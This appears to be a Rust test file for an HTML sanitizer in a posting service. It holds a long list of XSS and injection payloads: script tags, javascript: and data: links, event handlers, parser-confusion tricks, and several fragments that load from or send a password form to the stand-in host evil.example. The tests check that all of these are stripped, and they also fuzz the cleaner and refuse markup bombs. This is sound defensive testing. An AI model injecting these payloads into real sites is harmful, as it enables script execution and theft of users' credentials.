//! What attackers and broken software send (security §0 row 9, d).

use proptest::prelude::*;

use super::shape;
use crate::text::{TextRefusal, clean};

/// Fragments, and a text that must have gone.
const HOSTILE: &[(&str, &str)] = &[
    ("<script>alert(1)</script>", "alert"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "evil"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", "<script"),
    ("<script/x>alert(1)</script\n>", "alert"),
    ("<script>alert(1)", "alert"),
    ("<style>*{background:url(//evil.example)}</style>", "evil"),
    ("<p style=\"background:url(//evil.example)\">a</p>", "style"),
    ("<link rel=stylesheet href=//evil.example>", "evil"),
    ("<base href=//evil.example/>", "evil"),
    (
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "evil",
    ),
    ("<a href=\"javascript:alert(1)\">a</a>", "javascript"),
    ("<a href=\"JaVaScRiPt:alert(1)\">a</a>", "href"),
    ("<a href=\"java\tscript:alert(1)\">a</a>", "href"),
    ("<a href=\"java\nscript:alert(1)\">a</a>", "href"),
    ("<a href=\"java&#9;script:alert(1)\">a</a>", "href"),
    ("<a href=\"java&Tab;script:alert(1)\">a</a>", "href"),
    ("<a href=\"&#106;avascript:alert(1)\">a</a>", "href"),
    ("<a href=\"&#x6A&#x61vascript:alert(1)\">a</a>", "href"),
    ("<a href=\" \u{1}javascript:alert(1)\">a</a>", "href"),
    ("<a href=\"javascript&colon;alert(1)\">a</a>", "href"),
    ("<a href=javascript:alert(1)>a</a>", "href"),
    ("<a href=`javascript:alert(1)`>a</a>", "href"),
    (
        "<a href=\"data:text/html,<script>alert(1)</script>\">a</a>",
        "data:",
    ),
    (
        "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">a</a>",
        "data:",
    ),
    ("<a href=\"vbscript:msgbox(1)\">a</a>", "vbscript"),
    ("<a href=\"file:///etc/passwd\">a</a>", "file:"),
    ("<a href=\"blob:https://a.test/x\">a</a>", "blob:"),
    ("<a href=\"mailto:awa@isoc.tn\">a</a>", "mailto"),
    ("<a href=\"//evil.example\">a</a>", "evil"),
    ("<a href=\"/deconnexion\">a</a>", "deconnexion"),
    ("<a href=\"?x\">a</a>", "href"),
    ("<a href=\"#x\">a</a>", "href"),
    ("<a href=\"\\\\evil.example\">a</a>", "evil"),
    (
        "<a href=\"https://a.test\" target=_blank onclick=alert(1)>a</a>",
        "onclick",
    ),
    (
        "<a href=\"https://a.test\" rel=\"opener\" ping=//evil.example>a</a>",
        "evil",
    ),
    ("<a href=\"https://a.test\" download>a</a>", "download"),
    ("<img src=x onerror=alert(1)>", "onerror"),
    ("<img src=https://evil.example/pixel.gif>", "evil"),
    ("<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "alert"),
    ("<img/src=x/onerror=alert(1)>", "onerror"),
    ("<p onmouseover=alert(1)>a</p>", "onmouseover"),
    ("<p/onclick=alert(1)>a</p>", "onclick"),
    ("<p ONCLICK\n=\n'alert(1)'>a</p>", "alert"),
    ("<svg onload=alert(1)>", "onload"),
    ("<svg><script>alert(1)</script></svg>", "alert"),
    (
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>a</text></a></svg>",
        "javascript",
    ),
    (
        "<svg><animate attributeName=href values=javascript:alert(1)>",
        "javascript",
    ),
    (
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "onerror",
    ),
    (
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "onerror=\"",
    ),
    (
        "<svg><foreignObject><iframe srcdoc='x'></iframe></foreignObject></svg>",
        "srcdoc",
    ),
    (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<img",
    ),
    ("<math href=\"javascript:alert(1)\">a</math>", "javascript"),
    (
        "<math><mi><table><a href=javascript:alert(1)>a</table></math>",
        "javascript",
    ),
    (
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<img",
    ),
    (
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<img",
    ),
    (
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
        "<img",
    ),
    (
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
        "<img",
    ),
    (
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
        "<img",
    ),
    (
        "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
        "<img",
    ),
    ("<iframe src=javascript:alert(1)></iframe>", "javascript"),
    (
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
        "<img",
    ),
    (
        "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
        "javascript",
    ),
    (
        "<form action=https://evil.example><input name=password><button>a</form>",
        "evil",
    ),
    (
        "<button formaction=javascript:alert(1)>a</button>",
        "javascript",
    ),
    ("<video><source onerror=alert(1)></video>", "onerror"),
    ("<audio src=x onerror=alert(1)>", "onerror"),
    ("<details open ontoggle=alert(1)>a", "ontoggle"),
    ("<marquee onstart=alert(1)>a</marquee>", "onstart"),
    ("<template><script>alert(1)</script></template>", "alert"),
    (
        "<table background=javascript:alert(1)><tr><td>a</table>",
        "javascript",
    ),
    ("<p id=admin name=admin>a</p>", "admin"),
    ("<span class=\"btn btn-admin mention\">a</span>", "admin"),
    ("<p class=mention>a</p>", "class"),
    ("<span class=\"\">a</span>", "class"),
    (
        "<p dir=\"x\" lang=\"fr\u{22}onclick=alert(1)\">a</p>",
        "alert",
    ),
    ("<ol start=\"1;alert(1)\"><li value=x>a</ol>", "alert"),
    ("<!-- <script>alert(1)</script> -->", "alert"),
    ("<!--><script>alert(1)</script>-->", "alert"),
    ("<!--[if IE]><script>alert(1)</script><![endif]-->", "alert"),
    ("<!--!><img src=x onerror=alert(1)>--!>", "<img"),
    ("<![CDATA[<script>alert(1)</script>]]>", "<script"),
    ("<?xml version=\"1.0\"?><?php alert(1) ?>", "php"),
    (
        "<!DOCTYPE html><html onload=alert(1)><body onload=alert(1)>a",
        "onload",
    ),
    ("<p title='<script>alert(1)</script>'>a", "alert"),
    ("&lt;script&gt;alert(1)&lt;/script&gt;", "<script"),
    ("&amp;lt;script&amp;gt;", "&lt;"),
    ("&#60;img src=x onerror=alert(1)&#62", "<img"),
    ("<\u{0}script>alert(1)</script>", "<script"),
    ("<scr\u{0}ipt>alert(1)</scr\u{0}ipt>", "<script"),
    ("<p\u{c}onclick=alert(1)>a", "onclick"),
    ("< script>alert(1)</ script>", "<script"),
    ("<<script>alert(1)//<</script>", "alert"),
    (
        "<a href=\"https://a.test/\"><a href=\"javascript:alert(1)\">a</a></a>",
        "javascript",
    ),
    (
        "<a href='https://a.test/\"onclick=alert(1)//'>a</a>",
        "\"onclick",
    ),
    ("</p></div></body><script>alert(1)</script>", "alert"),
    ("<p><table><td><p><div><h1><p>a</table>", "<h1"),
    (
        "<x-frame onfocus=alert(1) tabindex=1 autofocus>a</x-frame>",
        "onfocus",
    ),
    (
        "<frameset><frame src=javascript:alert(1)></frameset>",
        "javascript",
    ),
    ("<plaintext><script>alert(1)</script>", "<script"),
    ("<isindex action=javascript:alert(1)>", "javascript"),
    ("<bdo dir=rtl>nimda</bdo>", "bdo"),
];

// posting.6
#[test]
fn nothing_dangerous_comes_through() {
    assert!(HOSTILE.len() >= 60);
    for (fragment, gone) in HOSTILE {
        let safe = clean::html(fragment).expect(fragment);
        assert_eq!(shape::check(&safe), Ok(()), "{fragment:?}");
        assert!(!safe.contains(gone), "{fragment:?} gave {safe:?}");
        assert_eq!(clean::html(&safe), Ok(safe), "{fragment:?} again");
    }
}

#[test]
fn what_is_harmless_stays() {
    let rel = "rel=\"nofollow noopener noreferrer ugc\"";
    for (fragment, safe) in [
        (
            "<p>Un <em>deux</em> <del>trois</del></p>",
            "<p>Un <em>deux</em> <del>trois</del></p>",
        ),
        (
            "<h2 class=x>Titre</h2>texte",
            "<p><strong>Titre</strong></p>texte",
        ),
        ("<div>un</div><div>deux</div>", "<p>un</p><p>deux</p>"),
        ("<div><p>un</p></div>", "<p>un</p>"),
        ("<pre>\n\n\na\n</pre>", "<pre>a\n</pre>"),
        (
            "<ol start=3 reversed><li value=2>a</ol>",
            "<ol start=\"3\" reversed=\"\"><li value=\"2\">a</li></ol>",
        ),
        (
            "<p lang=AR-tn dir=rtl>سلام</p>",
            "<p lang=\"ar-TN\" dir=\"rtl\">سلام</p>",
        ),
        ("5 < 6 & 7 > 2", "5 &lt; 6 &amp; 7 &gt; 2"),
        ("a\u{a0}!", "a&nbsp;!"),
        ("", ""),
    ] {
        assert_eq!(clean::html(fragment).as_deref(), Ok(safe), "{fragment}");
    }
    let mention = format!(
        "<span class=\"h-card\"><a href=\"https://a.test/@awa\" class=\"u-url mention\" {rel}>@<span>awa</span></a></span>"
    );
    assert_eq!(clean::html(&mention), Ok(mention));
    let tag =
        "<a href=\"https://a.test/t/x\" class=\"mention hashtag\" rel=\"tag\">#<span>x</span></a>";
    let kept = tag.replace(
        "rel=\"tag\"",
        "rel=\"tag nofollow noopener noreferrer ugc\"",
    );
    assert_eq!(clean::html(tag), Ok(kept));
}

#[test]
fn size_and_cost_are_bounded() {
    let limit = clean::MAX_HTML_BYTES;
    let too_long = Err(TextRefusal::TooLong { limit });
    assert_eq!(clean::html(&"a".repeat(limit)), Ok("a".repeat(limit)));
    assert_eq!(clean::html(&"a".repeat(limit + 1)), too_long);
    assert_eq!(clean::html(&"<1".repeat(limit / 4)), too_long);
    let tangled = Err(TextRefusal::TooTangled);
    let dressed = (0..2_000)
        .map(|n| format!("<b x={n}>"))
        .collect::<Vec<_>>()
        .concat();
    let attributes = (0..30_000)
        .map(|n| format!(" x{n}"))
        .collect::<Vec<_>>()
        .concat();
    for bomb in [
        "<span>".repeat(40_000),
        format!("<p>{dressed}</p>{}", "<p>x</p>".repeat(20_000)),
        format!("<p{attributes}>"),
        format!("<!--<a x='--><p{attributes}>"),
        "<a".repeat(100_000),
        "<p x='".repeat(40_000),
        "</p>".repeat(60_000),
        "&".repeat(100_000),
        "\u{a0}".repeat(100_000),
    ] {
        assert_eq!(clean::html(&bomb), tangled, "{}", &bomb[..60]);
    }
}

/// Pieces of markup that parsers disagree about.
const CRUMBS: &[&str] = &[
    "<p>",
    "</p>",
    "<b>",
    "</b>",
    "<a href='https://a.test/?a&b'>",
    "</a>",
    "<i x=1>",
    "</i>",
    "<table>",
    "<tr>",
    "<td>",
    "</table>",
    "<ul>",
    "<li>",
    "</ul>",
    "<h1>",
    "</h1>",
    "<div>",
    "</div>",
    "<pre>\n",
    "</pre>",
    "<svg>",
    "</svg>",
    "<math>",
    "<mtext>",
    "</math>",
    "<style>",
    "</style>",
    "<!--",
    "-->",
    "<![CDATA[",
    "]]>",
    "<select>",
    "<option>",
    "</select>",
    "<template>",
    "</template>",
    "<button>",
    "</button>",
    "<form>",
    "<br>",
    "</br>",
    "<code>",
    "</code>",
    "<blockquote>",
    "<span class='mention x'>",
    "</span>",
    "&lt;",
    "&",
    "\"",
    "'",
    "<",
    ">",
    "\n",
    "a",
    "<noscript>",
    "</noscript>",
    "<object>",
    "</object>",
    "<s>",
    "<em>",
    "<caption>",
    "<nobr>",
    "<ruby><rt>",
    "<frameset>",
    "</body>",
    "<a class=hashtag href=http://b>",
    "<title>",
    "</title>",
    "<plaintext>",
    "<u lang=fr dir=rtl>",
    "<p dir=auto>",
    "\r",
    "\0",
];

/// Crumbs put together by chance.
fn crumbs() -> impl Strategy<Value = String> {
    let crumb = prop::sample::select(CRUMBS);
    prop::collection::vec(crumb, 0..40).prop_map(|crumbs| crumbs.concat())
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(1500))]

    #[test]
    fn cleaning_is_safe_and_settles(fragment in crumbs()) {
        let safe = clean::html(&fragment).expect("a short fragment");
        prop_assert_eq!(shape::check(&safe), Ok(()));
        prop_assert_eq!(clean::html(&safe), Ok(safe));
    }

    #[test]
    fn cleaning_takes_any_text(fragment in "\\PC{0,200}") {
        let safe = clean::html(&fragment).expect("a short fragment");
        prop_assert_eq!(shape::check(&safe), Ok(()));
        prop_assert_eq!(clean::html(&safe), Ok(safe));
    }

    #[test]
    fn names_settle(text in "\\PC{0,60}|[\\x00-\\x20\u{202a}-\u{202e}a]{0,60}") {
        let name = clean::name(&text, 30);
        prop_assert!(name.chars().count() <= 30);
        prop_assert!(!name.contains(char::is_control));
        prop_assert_eq!(clean::name(&name, 30), name);
    }
}
